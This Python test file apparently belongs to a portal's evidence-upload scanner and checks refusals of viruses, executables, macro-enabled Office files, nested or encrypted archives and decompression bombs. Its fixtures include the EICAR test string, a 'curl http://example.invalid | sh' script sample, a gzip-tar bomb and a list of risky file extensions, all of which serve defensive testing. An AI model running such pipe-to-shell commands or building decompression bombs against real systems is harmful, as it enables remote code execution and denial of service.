"""Evidence files checked on upload: the real clamd, Assay's YARA rules, real archives."""

import io
import socket
import stat
import tarfile
import zipfile

import openpyxl
import pytest

from portal.services import evidence
from portal.services.evidence import EvidenceRefused

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAN" + b"DARD-ANTIVIRUS-TEST-FILE!$H+H*"
YARA_TEST = b"ASSAY-YARA-TEST!"
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ\x90\x00" + bytes(60)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(24)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@pytest.fixture(scope="module")
def clamd(clamd_service):
    return clamd_service.address


def write(tmp_path, name: str, data: bytes):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def checked(tmp_path, clamd, name: str, data: bytes) -> evidence.Checked:
    return evidence.check_file(name, write(tmp_path, "upload", data), clamd=clamd)


def refused(tmp_path, clamd, name: str, data: bytes) -> str:
    with pytest.raises(EvidenceRefused) as caught:
        checked(tmp_path, clamd, name, data)
    return str(caught.value)


def zipped(members: dict, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, body in members.items():
            z.writestr(name, body)
    return out.getvalue()


def tarred(members: dict, mode: str = "w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as t:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            t.addfile(info, io.BytesIO(body))
    return out.getvalue()


def workbook() -> bytes:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "benchmark of the flagged function"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def with_parts(data: bytes, add: dict, content_types=None) -> bytes:
    """An OOXML file with parts added and [Content_Types].xml rewritten."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "[Content_Types].xml" and content_types:
                body = content_types(body)
            dst.writestr(info.filename, body)
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


# --------------------------------------------------------------------------- accepted


@pytest.mark.parametrize("name, data", [
    ("notes.txt", b"The flagged path is only used in tests.\n"),
    ("trace.pdf", PDF),
    ("timings.xlsx", workbook()),
    ("logs.zip", zipped({"logs/run1.txt": b"ok\n", "logs/run2.log": b"ok\n"})),
    ("logs.tar.gz", tarred({"logs/run1.txt": b"ok\n"})),
])
def test_ordinary_evidence_is_accepted_and_says_what_checked_it(tmp_path, clamd, name, data):
    result = checked(tmp_path, clamd, name, data)
    assert "ClamAV" in result.engines and "YARA" in result.engines


# --------------------------------------------------------------------------- the engines


def test_a_virus_is_refused_by_clamav(tmp_path, clamd):
    message = refused(tmp_path, clamd, "sample.txt", EICAR)
    assert message.startswith("The evidence file sample.txt was refused: ClamAV found ")
    assert "EICAR" in message


def test_a_virus_inside_an_archive_is_refused(tmp_path, clamd):
    assert "ClamAV found" in refused(tmp_path, clamd, "proof.zip",
                                     zipped({"docs/readme.txt": EICAR}))


def test_a_yara_match_is_refused(tmp_path, clamd):
    message = refused(tmp_path, clamd, "header.dat", YARA_TEST)
    assert message == ("The evidence file header.dat was refused: it matches the malware rule "
                       "Assay_Test_ConditionOnly.")


def test_an_unreachable_clamd_refuses_the_upload(tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # nothing listens here once closed
    with pytest.raises(EvidenceRefused) as caught:
        evidence.check_file("notes.txt", write(tmp_path, "n", b"text\n"),
                       clamd=f"tcp://127.0.0.1:{port}")
    assert str(caught.value) == ("The evidence file notes.txt could not be checked for viruses "
                                 "right now; try again later.")


def test_no_clamd_configured_refuses_the_upload(tmp_path):
    with pytest.raises(EvidenceRefused, match="try again later"):
        evidence.check_file("notes.txt", write(tmp_path, "n", b"text\n"), clamd="")


# --------------------------------------------------------------------------- executables


@pytest.mark.parametrize("data, what", [
    (ELF, "an ELF executable"), (PE, "a Windows (PE/DOS) executable"),
    (MACHO, "a Mach-O executable"), (SCRIPT, "a script"),
])
def test_executables_are_refused_by_content(tmp_path, clamd, data, what):
    assert refused(tmp_path, clamd, "picture.png", data) == (
        f"The evidence file picture.png is {what}; executables, scripts and macro-enabled "
        "documents cannot be attached to an appeal.")


@pytest.mark.parametrize("name", ["run.exe", "setup.MSI", "fix.bat", "tool.ps1", "a.js",
                                  "report.xlsm", "letter.docm", "start.lnk"])
def test_risky_names_are_refused_whatever_the_content(tmp_path, clamd, name):
    message = refused(tmp_path, clamd, name, b"plain text\n")
    assert message.startswith(f"The evidence file {name} is a .")


def test_an_executable_inside_a_zip_is_named(tmp_path, clamd):
    message = refused(tmp_path, clamd, "proof.zip", zipped({"bin/helper": ELF, "a.txt": b"x"}))
    assert message.startswith("The evidence file proof.zip holds bin/helper, an ELF executable")


def test_a_script_inside_a_tar_gz_is_refused(tmp_path, clamd):
    message = refused(tmp_path, clamd, "proof.tar.gz", tarred({"tools/fix": SCRIPT}))
    assert "holds tools/fix, a script" in message


def test_an_executable_in_archives_nested_three_deep_is_found(tmp_path, clamd):
    inner = zipped({"deep/x": PE})
    middle = tarred({"inner.zip": inner}, "w")
    outer = zipped({"middle.tar": middle})
    message = refused(tmp_path, clamd, "proof.zip", outer)
    assert "holds middle.tar!/inner.zip!/deep/x, a Windows (PE/DOS) executable" in message


def test_archives_nested_too_deep_are_refused(tmp_path, clamd):
    data = b"just text"
    for level in range(5):
        data = zipped({f"level{level}.zip" if level else "a.txt": data})
    assert "nested more than 3 levels deep" in refused(tmp_path, clamd, "deep.zip", data)


def test_a_password_protected_zip_is_refused(tmp_path, clamd):
    data = bytearray(zipped({"a.txt": b"x"}, compression=zipfile.ZIP_STORED))
    for marker in (b"PK\x03\x04", b"PK\x01\x02"):  # set the "encrypted" flag
        at = data.find(marker)
        data[at + (6 if marker == b"PK\x03\x04" else 8)] |= 0x1
    assert "password-protected archive" in refused(tmp_path, clamd, "p.zip", bytes(data))


def test_a_7z_archive_is_refused(tmp_path, clamd):
    assert "pack the evidence as a .zip file" in refused(
        tmp_path, clamd, "p.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24))


# --------------------------------------------------------------------------- macro documents


def test_an_xlsx_with_a_vba_project_is_refused(tmp_path, clamd):
    data = with_parts(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
    assert "an Office document with macros" in refused(tmp_path, clamd, "timings.xlsx", data)


def test_a_macro_enabled_content_type_is_refused(tmp_path, clamd):
    data = with_parts(workbook(), {}, lambda xml: xml.replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"))
    assert "a macro-enabled Office document" in refused(tmp_path, clamd, "timings.xlsx", data)


def test_a_docx_with_activex_is_refused(tmp_path, clamd):
    data = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>",
                   "word/activeX/activeX1.xml": b"<ax/>"})
    assert "macros or ActiveX controls" in refused(tmp_path, clamd, "letter.docx", data)


def test_a_macro_document_inside_a_zip_is_refused(tmp_path, clamd):
    macro = with_parts(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    message = refused(tmp_path, clamd, "bundle.zip", zipped({"data/timings.xlsx": macro}))
    assert "holds data/timings.xlsx, an Office document with macros" in message


def test_an_old_office_document_with_vba_is_refused(tmp_path, clamd):
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "_VBA_PROJECT".encode("utf-16-le")
    assert "an Office document with macros" in refused(tmp_path, clamd, "old.doc", ole)


# --------------------------------------------------------------------------- receiving


def test_receive_keeps_a_private_copy_and_removes_it(tmp_path):
    with evidence.receive("a.txt", io.BytesIO(b"hello"), max_bytes=10, directory=tmp_path) as got:
        assert got.path.read_bytes() == b"hello" and got.size == 5
        assert stat.S_IMODE(got.path.stat().st_mode) == 0o600
        path = got.path
    assert not path.exists()


def test_receive_refuses_too_large_and_empty_files(tmp_path):
    with pytest.raises(EvidenceRefused, match="a.bin is larger than 1 MiB"):
        with evidence.receive("a.bin", io.BytesIO(bytes(2**20 + 1)), max_bytes=2**20,
                              directory=tmp_path):
            pass
    with pytest.raises(EvidenceRefused, match="b.txt is empty"):
        with evidence.receive("b.txt", io.BytesIO(b""), max_bytes=10, directory=tmp_path):
            pass
    assert list(tmp_path.iterdir()) == []


def test_a_compressed_tar_that_inflates_without_end_is_refused_quickly(tmp_path, clamd):
    import gzip
    import time

    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as gz:
        with tarfile.open(fileobj=gz, mode="w|") as t:
            info = tarfile.TarInfo("zeros.txt")
            info.size = evidence.MAX_INFLATED + 2**20
            t.addfile(info, _Zeros(info.size))
    assert len(out.getvalue()) < 2 * 1024**2
    started = time.perf_counter()
    message = refused(tmp_path, clamd, "data.tar.gz", out.getvalue())
    assert "holds more files or data than can be checked" in message
    assert time.perf_counter() - started < 20


class _Zeros(io.RawIOBase):
    def __init__(self, size):
        self.left = size

    def readable(self):
        return True

    def readinto(self, buffer):
        n = min(len(buffer), self.left)
        buffer[:n] = bytes(n)
        self.left -= n
        return n
